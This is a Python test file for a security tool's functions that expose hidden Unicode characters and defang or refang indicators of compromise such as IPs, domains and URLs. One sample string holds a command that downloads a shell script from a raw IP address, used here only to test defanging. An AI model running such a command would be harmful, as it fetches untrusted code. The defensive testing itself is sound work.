"""Text that may be hostile, made safe to show, and defanging that can be undone."""

from __future__ import annotations

import unicodedata
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from jupyterlab_sentinel.models.indicators import INDICATOR_TYPES, Indicator, defang, defang_text, refang, visible
from jupyterlab_sentinel.models.refang import refanged

HIDDEN = (
    [chr(code) for code in range(0x20) if chr(code) not in "\n\t"]
    + [chr(code) for code in range(0x7F, 0xA0)]
    + list("\xad\u061c\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2060\u2066\u2067\u2068")
    + list("\u2069\ufeff\u180e\u115f\u3164\U000e0001\U000e0041\U000e007f\U000e0100\ud800\udfff\uffff")
)


@pytest.mark.parametrize("char", HIDDEN, ids=lambda char: f"U+{ord(char):04X}")
def test_hidden_characters_are_written_out(char: Any) -> None:
    assert visible(f"a{char}b") == f"a<U+{ord(char):04X}>b"


@given(st.text())
def test_nothing_invisible_is_left_and_nothing_else_changes(text: str) -> None:
    shown = visible(text)
    for char in shown:
        assert char in "\n\t" or unicodedata.category(char) not in ("Cc", "Cs", "Zl", "Zp"), hex(ord(char))
    assert not any(char in shown for char in "\u202e\u2066\u200b\ufeff\U000e0041")
    assert visible(shown) == shown
    shown.encode("utf-8")


@pytest.mark.parametrize("text", ["plain", "tab\tand\nnewline", "grüße 日本語 العربية 🙂", "a\xa0b", ""])
def test_ordinary_text_stays(text: str) -> None:
    assert visible(text) == text


def test_windows_line_ends_are_line_ends() -> None:
    assert visible("a\r\nb\rc") == "a\nb<U+000D>c"


@given(st.text(st.sampled_from("ab\u202e\x1b\U000e0041\ud800<U+>"), max_size=60), st.integers(0, 40))
def test_limits_hold_and_cut_no_escape_in_half(text: str, limit: Any) -> None:
    shown = visible(text, limit=limit)
    assert len(shown) <= limit
    whole = visible(text)
    if shown != whole:
        assert shown.endswith("…") or limit == 0
        assert whole.startswith(shown[:-1])


def test_a_cut_escape_goes_as_a_whole() -> None:
    assert visible("ab\u202ecd", limit=6) == "ab…"


@pytest.mark.parametrize(
    ("kind", "value", "expected"),
    [
        ("ipv4", "1.2.3.4", "1[.]2[.]3[.]4"),
        ("ipv6", "2001:db8::1", "2001[:]db8[:][:]1"),
        ("ipv6", "::ffff:192.0.2.1", "[:][:]ffff[:]192[.]0[.]2[.]1"),
        ("domain", "a.evil.com", "a[.]evil[.]com"),
        ("url", "https://a.evil.com/x.y?u=http://b.com", "hxxps[:]//a[.]evil[.]com/x.y?u=hxxp[:]//b[.]com"),
        ("url", "ftp://a.com/", "fxp[:]//a[.]com/"),
        ("url", "ldap://a.com/", "ldap[:]//a[.]com/"),
        ("email", "a.b@evil.com", "a.b[@]evil[.]com"),
        ("md5", "d41d8cd98f00b204e9800998ecf8427e", "d41d8cd98f00b204e9800998ecf8427e"),
    ],
)
def test_defanged_values_cannot_become_links_and_come_back(kind: str, value: Any, expected: Any) -> None:
    assert defang(value, kind) == expected
    assert refang(expected) == value
    assert Indicator(kind, value).defanged == expected


def test_free_text_keeps_all_but_its_links() -> None:
    text = "wget http://23.97.60.214/x.sh -O a.sh; see www.evil.com and HTTPS://E.com"
    assert (
        defang_text(text) == "wget hxxp[:]//23[.]97[.]60[.]214/x.sh -O a.sh; see www[.]evil.com and hxxps[:]//E[.]com"
    )


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        ("hxxp://a hXXps:// h**p:// fxp:// htxp://", "http://a https:// http:// ftp:// http://"),
        ("a[.]b a(.)b a{.}b a[dot]b a(DOT)b a {dot} b", "a.b a.b a.b a.b a.b a.b"),
        ("a[@]b a[at]b a(AT)b", "a@b a@b a@b"),
        ("http[:]//a http[://]b http[:][/][/]c", "http://a http://b http://c"),
        ("1.1.1[.1 a.]b", "1.1.1.1 a.b"),
        ("evil\\.com", "evil.com"),
        ("C:\\Users\\.config \\.x a\\.", "C:\\Users\\.config \\.x a\\."),
        ('"http:\\/\\/e.com\\/x"', '"http://e.com/x"'),
        ("[.] (dot) x[0] {a} f( . ), see [at]", "[.] (dot) x[0] {a} f( . ), see [at]"),
        ("nothing defanged", "nothing defanged"),
        ("hxxp fxps xxp", "hxxp fxps xxp"),
    ],
)
def test_refang(text: str, plain: Any) -> None:
    assert refang(text) == plain


@given(
    st.lists(
        st.sampled_from(["a", "[.]", "(dot)", "hxxp", "://", "[:]", " ", "\\.", "b", "\\/", ":\\/\\/", "[@]"])
    ).map("".join)
)
def test_every_character_of_refanged_text_has_its_place_in_the_given_text(text: str) -> None:
    found = refanged(text)
    previous = 0
    for at, char in enumerate(found.text):
        start, end = found.span(at, at + 1)
        assert 0 <= start < end <= len(text)
        assert start >= previous or found.changed(at, at + 1)
        previous = start
        if not found.changed(at, at + 1):
            assert text[start:end] == char


def test_types_are_those_of_the_interface() -> None:
    assert " ".join(INDICATOR_TYPES) == (
        "ipv4 ipv6 domain url email md5 sha1 sha256 sha512 cve attack_technique registry_key windows_path linux_path"
        " asn bitcoin"
    )
